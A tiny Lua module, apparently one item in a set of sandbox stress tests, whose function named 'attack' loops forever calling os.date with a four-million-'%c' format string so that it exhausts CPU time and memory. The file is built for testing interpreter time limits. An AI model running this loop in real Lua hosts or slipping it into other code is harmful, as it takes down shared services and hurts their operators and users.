--- formats a date in a format of megabytes
--- outcome: time

local M = {}

function M.attack()
  local format = ("%c"):rep(4000000)
  while true do pcall(os.date, format) end
end

return M
